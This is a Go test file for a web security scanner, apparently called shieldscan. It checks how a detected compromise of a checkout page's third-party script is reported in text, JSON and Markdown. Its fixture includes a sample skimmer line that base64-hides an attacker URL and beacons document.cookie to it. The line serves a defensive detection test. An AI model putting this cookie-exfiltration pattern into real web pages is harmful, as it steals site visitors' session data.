package output_test

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/shieldscan/shieldscan/internal/investigate"
	"github.com/shieldscan/shieldscan/output"
	"github.com/shieldscan/shieldscan/report"
	"github.com/shieldscan/shieldscan/rules"
	"github.com/shieldscan/shieldscan/scanner/analyze"
)

// compromised is a scan with --investigate: an alerted script that the code loads and whose
// source hides a host that Intel calls Malware (an active compromise), a malicious host the
// code never names (the not-found branch), and a declared host with no data.
func compromised(t *testing.T) *report.Report {
	script := resource(t, "https://cdn.widgets.example/w.js", rules.Origin{})
	gone := resource(t, "skim.example", rules.Origin{})
	gone.PageShield = &rules.Observation{Kind: "connection", Malicious: true, Reasons: []string{"domain reported malicious"}, Categories: []string{"Malware"}}
	stripe := resource(t, "js.stripe.com", rules.Origin{})
	b := report.NewBuilder(report.ModeTree, []*rules.Resource{script, gone, stripe})
	b.Add(report.Ref{Rule: rules.DeclaredReference, Level: rules.Note, Class: rules.Declared, Resource: script, Path: "web/checkout.html", Line: 9,
		Column: 15, EndColumn: 47, Match: "https://cdn.widgets.example/w.js", Snippet: `<script src="https://cdn.widgets.example/w.js"></script>`,
		Strength: rules.URLMatch, Context: rules.CtxScriptSrc, Encoding: "plain"})
	b.Add(report.Ref{Rule: rules.UnknownResource, Level: rules.Error, Class: rules.Unknown, Resource: gone, Path: report.Placeholder, Line: 1, Column: 1, EndColumn: 2})
	b.Add(report.Ref{Rule: rules.DeclaredReference, Level: rules.Note, Class: rules.Declared, Resource: stripe, Path: "web/checkout.html", Line: 8,
		Column: 15, EndColumn: 40, Match: "https://js.stripe.com/v3/", Snippet: `<script src="https://js.stripe.com/v3/"></script>`,
		Strength: rules.HostMatch, Context: rules.CtxScriptSrc, Encoding: "plain"})
	rep := b.Finish()
	score := 0.97
	verdicts := map[string]*report.Intel{
		"cdn.widgets.example":  {Host: "cdn.widgets.example", Verdict: report.VerdictNoData, Reasons: []string{"no data: Cloudflare Intel knows nothing about this domain"}, Source: "cloudflare-intel"},
		"collect.evil.example": {Host: "collect.evil.example", Verdict: report.VerdictMalicious, Malicious: true, Source: "cloudflare-intel", Categories: []string{"Malware"}, RiskScore: &score, Reasons: []string{"Malware", "risk score 0.97 (threshold 0.9)"}},
		"skim.example":         {Host: "skim.example", Verdict: report.VerdictMalicious, Malicious: true, Source: "feed.txt", Categories: []string{"Skimmer"}, Reasons: []string{"listed in feed.txt:2 as skim.example (Skimmer)"}},
		"js.stripe.com":        {Host: "js.stripe.com", Verdict: report.VerdictNoThreat, Source: "cloudflare-intel", ContentCategories: []string{"Business"}, PopularityRank: 310},
	}
	for i, r := range rep.Resources {
		rep.SetIntel(i, verdicts[r.Host])
	}
	src := `var u=atob("aHR0cHM6Ly9jb2xsZWN0LmV2aWwuZXhhbXBsZS9j"); navigator.sendBeacon(u, document.cookie);` + "\n"
	investigate.Judge(rep, verdicts, map[string]*analyze.Result{script.Canonical: analyze.Analyze(script.Canonical, []byte(src), analyze.Options{})})
	rep.Stats.Files = 4
	return rep
}

// TestCompromiseGolden: the text report and the Markdown summary lead with the playbook's
// verdict; the JSON report carries it with each resource.
func TestCompromiseGolden(t *testing.T) {
	rep := compromised(t)
	for _, format := range []string{"text", "json", "markdown"} {
		t.Run(format, func(t *testing.T) {
			got, err := output.Render(rep, format, output.Options{ToolVersion: "test"})
			if err != nil {
				t.Fatal(err)
			}
			golden := filepath.Join(goldenDir, "compromise."+map[string]string{"text": "txt", "json": "json", "markdown": "md"}[format])
			if *update {
				if err := os.WriteFile(golden, got, 0o666); err != nil {
					t.Fatal(err)
				}
			}
			want, err := os.ReadFile(golden)
			if err != nil {
				t.Fatalf("%v (run go test ./output -update)", err)
			}
			if diff := cmp.Diff(string(want), string(got)); diff != "" {
				t.Errorf("Render(compromise, %s) mismatch (-want +got):\n%s", format, diff)
			}
			if format == "json" {
				return
			}
			// The verdict leads: before any resource or reference.
			lead := map[string]string{"text": "ACTIVE COMPROMISE https://cdn.widgets.example/w.js", "markdown": "**Ongoing active compromise**"}[format]
			first := map[string]string{"text": "declared ", "markdown": "| resource |"}[format]
			if i, j := strings.Index(string(got), lead), strings.Index(string(got), first); i < 0 || j < 0 || i > j {
				t.Errorf("Render(compromise, %s): %q at %d does not lead %q at %d", format, lead, i, first, j)
			}
		})
	}
}
